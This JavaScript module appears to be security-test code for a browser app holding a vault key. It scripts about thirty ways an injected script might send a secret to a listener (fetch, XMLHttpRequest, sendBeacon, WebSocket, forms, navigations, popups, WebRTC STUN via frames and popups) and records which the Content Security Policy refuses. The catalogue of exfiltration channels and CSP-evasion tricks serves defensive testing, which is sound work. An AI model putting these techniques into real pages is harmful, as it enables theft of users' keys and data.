// What a script would try that has got into the page or into the vault, to send a key away.
// The functions run in the browser; what each leads to is left in `self.outcomes`.

/**
 * Defines `self.attack(name, target)`. `target` has `http` and `ws` addresses and a `udp` port of a
 * listener. The outcome is `refused …` or `got through`; `violations` gets the CSP directives that spoke.
 */
export function arm() {
  self.outcomes = {};
  self.violations = [];
  let spoken = () => {};
  (self.document ?? self).addEventListener('securitypolicyviolation', (event) => {
    self.violations.push(event.effectiveDirective);
    spoken(event.effectiveDirective);
  });
  // A navigation that was cancelled throws nothing: the event is all there is to see.
  self.navigation?.addEventListener('navigate', (event) => {
    if (event.defaultPrevented) spoken('navigation cancelled');
  });
  const fires = (object, good, bad) => new Promise((done, fail) => {
    object[`on${good}`] = done;
    object[`on${bad}`] = () => fail(new Error(`${bad} event`));
  });
  const element = (name, properties) => {
    const made = Object.assign(document.createElement(name), properties);
    const ends = fires(made, 'load', 'error');
    document.body.append(made);
    return ends;
  };
  const call = async (Connection, udp) => {
    const connection = new Connection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
  };
  const silent = () => new Promise(() => {});
  const tries = {
    fetch: ({ http }) => fetch(`${http}/fetch`),
    XMLHttpRequest: ({ http }) => {
      const request = new XMLHttpRequest();
      request.open('POST', `${http}/XMLHttpRequest`);
      const ends = fires(request, 'load', 'error');
      request.send('secret');
      return ends;
    },
    WebSocket: ({ ws }) => fires(new WebSocket(`${ws}/WebSocket`), 'open', 'error'),
    EventSource: ({ http }) => fires(new EventSource(`${http}/EventSource`), 'open', 'error'),
    WebTransport: ({ http }) => new WebTransport(`${http.replace('http:', 'https:')}/WebTransport`).ready,
    import: ({ http }) => import(`${http}/import`),
    importScripts: async ({ http }) => importScripts(`${http}/importScripts`),
    Worker: ({ http }) => fires(new Worker(`${http}/Worker`), 'message', 'error'),
    sendBeacon: ({ http }) => {
      if (!navigator.sendBeacon(`${http}/sendBeacon`, 'secret')) throw new Error('sendBeacon gave false');
      return silent();
    },
    image: ({ http }) => element('img', { src: `${http}/image` }),
    script: ({ http }) => element('script', { src: `${http}/script` }),
    stylesheet: ({ http }) => element('link', { rel: 'stylesheet', href: `${http}/stylesheet` }),
    frame: ({ http }) => {
      // A frame that was refused fires `load` like another: the policy's own word is what counts.
      element('iframe', { src: `${http}/frame` });
      return silent();
    },
    'frame from markup': ({ http }) => {
      document.body.insertAdjacentHTML('beforeend', `<iframe src="${http}/frame-from-markup"></iframe>`);
      return silent();
    },
    location: ({ http }) => {
      location.assign(`${http}/location`);
      return silent();
    },
    link: ({ http }) => {
      const link = Object.assign(document.createElement('a'), { href: `${http}/link` });
      document.body.append(link);
      link.click();
      return silent();
    },
    'link by what is in it': ({ http }) => {
      const link = Object.assign(document.createElement('a'), { href: `${http}/link-by-what-is-in-it` });
      const inner = document.createElement('b');
      link.append(inner);
      document.body.append(link);
      inner.click();
      return silent();
    },
    'made click': ({ http }) => {
      const link = Object.assign(document.createElement('a'), { href: `${http}/made-click`, target: '_blank' });
      document.body.append(link);
      link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
      return silent();
    },
    'made click on SVG': ({ http }) => {
      const [svg, link] = ['svg', 'a'].map((name) => document.createElementNS('http://www.w3.org/2000/svg', name));
      link.setAttribute('href', `${http}/made-click-on-SVG`);
      link.setAttribute('target', '_blank');
      svg.append(link);
      document.body.append(svg);
      link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
      return silent();
    },
    'page of the page': ({ http }) => {
      const page = new Blob([`<meta http-equiv="refresh" content="0;url=${http}/page-of-the-page">`], { type: 'text/html' });
      location.assign(URL.createObjectURL(page));
      return silent();
    },
    refresh: ({ http }) => {
      document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${http}/refresh` }));
      return silent();
    },
    popup: ({ http }) => {
      if (!window.open(`${http}/popup`)) throw new Error('no window');
      return silent();
    },
    form: ({ http }) => {
      const form = Object.assign(document.createElement('form'), { method: 'post', action: `${http}/form` });
      document.body.append(form);
      form.submit();
      return silent();
    },
    RTCPeerConnection: ({ udp }) => call(self.RTCPeerConnection ?? self.webkitRTCPeerConnection ?? self.mozRTCPeerConnection, udp),
    'RTCPeerConnection of a frame': ({ udp }) => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      return call(frame.contentWindow.RTCPeerConnection, udp);
    },
    'RTCPeerConnection of a frame from markup': ({ udp }) => {
      document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>');
      return call(document.querySelector('iframe').contentWindow.RTCPeerConnection, udp);
    },
    'RTCPeerConnection of a document': ({ udp }) => {
      const { documentElement } = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'iframe');
      document.body.append(documentElement);
      return call(documentElement.contentWindow.RTCPeerConnection, udp);
    },
    'RTCPeerConnection of a popup': ({ udp }) => call(window.open('').RTCPeerConnection, udp),
    'RTCPeerConnection of a frame with srcdoc': async ({ udp }) => {
      const frame = Object.assign(document.createElement('iframe'), { srcdoc: '<p>x</p>' });
      document.body.append(frame);
      await new Promise((done) => { frame.onload = done; });
      return call(frame.contentWindow.RTCPeerConnection, udp);
    },
  };
  self.attack = (name, target) => {
    const refused = new Promise((done) => { spoken = (directive) => done(`refused by the policy: ${directive}`); });
    const tried = (async () => tries[name](target))().then(() => 'got through', (error) => `refused: ${error}`);
    Promise.race([refused, tried]).then((outcome) => { self.outcomes[name] = outcome; });
  };
}

/** What can be tried on a page, and in a worker. */
export const ON_THE_PAGE = ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'import', 'Worker', 'sendBeacon',
  'image', 'script', 'stylesheet', 'frame', 'frame from markup', 'form', 'link', 'link by what is in it', 'made click', 'made click on SVG',
  'location', 'page of the page', 'refresh', 'popup'];
export const IN_A_WORKER = ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'import', 'importScripts'];
export const WEBRTC = ['RTCPeerConnection', 'RTCPeerConnection of a frame', 'RTCPeerConnection of a frame with srcdoc',
  'RTCPeerConnection of a frame from markup', 'RTCPeerConnection of a document', 'RTCPeerConnection of a popup'];

/** What reaches the listener from no page, by browser: WebKitGTK has no WebRTC, and opens no window for a script. */
export const ABSENT = { webkit: ['made click', 'made click on SVG', 'popup', ...WEBRTC] };
/** What nothing refuses there: docs/security.md says so under « What remains ». */
export const OPEN = { webkit: ['location'] };
/** What is refused without a word: the browser opens no page of it. */
export const UNTOLD = { webkit: ['page of the page'] };

/** Those of `names` that none of these tables has for a browser. */
export const without = (browser, names, ...tables) => names.filter((name) => !tables.some((table) => table[browser]?.includes(name)));

/** The path at which the listener sees an attack. */
export const pathOf = (name) => `/attack/${name.replaceAll(' ', '-')}`;
